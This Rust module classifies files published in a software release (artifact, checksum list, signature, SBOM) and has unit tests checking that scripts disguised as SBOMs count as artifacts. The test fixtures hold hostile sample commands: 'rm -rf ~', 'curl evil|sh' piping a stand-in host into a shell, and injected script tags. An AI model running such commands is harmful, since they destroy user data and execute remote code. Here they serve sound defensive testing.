//! What a published file is: an artifact, or a sidecar that speaks about artifacts.
//!
//! A file counts as a sidecar by its name alone; one whose content is something else is then reported as unreadable,
//! so that calling a program `tool.sig` does not spare it a signature.

mod xml;

use super::{bills, checksum_file::looks_like_checksum_file};
use crate::{evidence::PublishedFile, json, proof, release::ArtifactName};

/// What a published file is.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind<'a> {
    /// Something users run or unpack.
    Artifact,
    /// A list of digests.
    Checksums,
    /// A list of digests inside a cleartext-signed message, and the name that it goes by.
    SignedChecksums(&'a str),
    /// A signature or attestation, and the name of the file that it is about.
    Signature(proof::Format, &'a str),
    /// A software bill of materials.
    Sbom,
}

/// What the file called `name` is.
pub fn kind<'a>(name: &'a ArtifactName, file: &PublishedFile) -> Kind<'a> {
    let recognised = proof::recognise(name.as_str());
    if file.content.as_ref().is_some_and(|item| proof::openpgp::is_cleartext(&item.bytes)) {
        let list = match recognised {
            Some((proof::Format::Detached, about)) => about,
            _ => name.as_str(),
        };
        if looks_like_checksum_file(list) {
            return Kind::SignedChecksums(list);
        }
    }
    if let Some((format, about)) = recognised {
        return Kind::Signature(format, about);
    }
    if looks_like_checksum_file(name.as_str()) {
        return Kind::Checksums;
    }
    if is_sbom(name.as_str(), file) { Kind::Sbom } else { Kind::Artifact }
}

/// An SBOM has the name of one *and* is a document of that kind from its first character; a program that is merely
/// called so, or that mentions the format in a comment, is an artifact.
fn is_sbom(name: &str, file: &PublishedFile) -> bool {
    const JSON: &[&str] = &[".spdx.json", ".cdx.json", ".cyclonedx.json", ".sbom.json", "bom.json"];
    const XML: &[&str] = &[".cdx.xml", "bom.xml"];
    let lower = name.to_ascii_lowercase();
    let called = |suffixes: &[&str]| suffixes.iter().any(|suffix| lower.ends_with(suffix));
    let Some(item) = &file.content else { return false };
    let Ok(text) = std::str::from_utf8(&item.bytes) else { return false };
    if called(JSON) {
        let document = json::outline(&item.bytes, json::Limits { max_depth: 64, ..bills::LIMITS }, 1);
        return document.is_ok_and(|it| {
            it["bomFormat"] == "CycloneDX"
                || it["spdxVersion"].as_str().is_some_and(|v| v.starts_with("SPDX-"))
        });
    }
    (called(XML) && xml::is_bom(text)) || (lower.ends_with(".spdx") && is_tag_value(text))
}

/// Whether every line is one of SPDX's tag-value format: a tag, a comment, or part of a text.
fn is_tag_value(text: &str) -> bool {
    let mut in_text = false;
    text.starts_with("SPDXVersion:")
        && text.lines().all(|line| {
            let is_name = |tag: &str| !tag.is_empty() && tag.chars().all(|c| c.is_ascii_alphanumeric());
            let value =
                line.split_once(':').filter(|(tag, _)| is_name(tag)).map(|(_, value)| value.trim_start());
            let fits = in_text || line.trim().is_empty() || line.starts_with('#') || value.is_some();
            // A text begins as the value of a tag, and nowhere else: not in a comment.
            let begins = value.is_some_and(|value| value.starts_with("<text>"));
            in_text = (in_text || begins) && !line.contains("</text>");
            fits
        })
        && !in_text
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{
        digest::{Algorithms, hash_reader},
        evidence::{Bytes, Item},
    };

    fn is(name: &str, text: &str) -> bool {
        let (size, digests) = hash_reader(text.as_bytes(), Algorithms::SHA256).unwrap();
        let content = Some(Item::new("file:x", text.as_bytes().to_vec()));
        let file = PublishedFile {
            size: Some(size),
            digests,
            bytes: Bytes::Rehashed,
            framed: Vec::new(),
            inside: crate::inside::Inside::NotLooked,
            content,
        };
        kind(&ArtifactName::parse(name).unwrap(), &file) == Kind::Sbom
    }

    #[test]
    fn a_bill_of_materials_is_one_from_its_first_character() {
        assert!(is("w.cdx.json", r#"{"bomFormat": "CycloneDX"}"#));
        assert!(is("w.spdx.json", r#"{"spdxVersion": "SPDX-2.3"}"#));
        assert!(is("w.spdx", "SPDXVersion: SPDX-2.3\n"));
        assert!(is("bom.xml", r#"<bom xmlns="http://cyclonedx.org/schema/bom/1.5"/>"#));
    }

    #[test]
    fn a_script_that_speaks_of_one_is_an_artifact() {
        assert!(!is("install.spdx", "#!/bin/sh\n# SPDXVersion: SPDX-2.3\nrm -rf ~\n"));
        assert!(!is("w.cdx.json", "#!/bin/sh\n# \"bomFormat\"\n"));
        assert!(!is("w.cdx.json", r#"{"a": "bomFormat"}"#));
        assert!(!is("w.cdx.json", r#"{"bomFormat": 1}"#));
        assert!(!is("install.spdx", "SPDXVersion: SPDX-2.3\ncurl evil|sh\n"));
        assert!(is("w.spdx", "SPDXVersion: SPDX-2.3\nLicenseText: <text>one\ntwo\n</text>\nSPDXID: x\n"));
        assert!(!is("install.spdx", "SPDXVersion: SPDX-2.3\n# <text>\necho PWNED\n# </text>\n"));
        assert!(!is("install.spdx", "SPDXVersion: SPDX-2.3\nX: y <text>\necho PWNED\n</text>\n"));
        assert!(!is("install.spdx", "SPDXVersion: SPDX-2.3\nX: <text>a</text>\necho PWNED\n"));
        assert!(!is("evil.cdx.xml", "<html><!-- cyclonedx.org/schema/bom --><script>x</script></html>"));
        let bom = "<bom xmlns=\"http://cyclonedx.org/schema/bom/1.6\">";
        assert!(is("w.cdx.xml", &format!("{bom}<components/></bom>")));
        assert!(!is("w.cdx.xml", &format!("{bom}<script>x</script></bom>")));
        assert!(!is("w.cdx.xml", &format!("{bom}\ncurl evil|sh\n</bom>")));
        assert!(!is("w.cdx.xml", "<bom><script>x</script></bom>"));
        assert!(!is("run.sh", r#"{"bomFormat": "CycloneDX"}"#));
    }
}
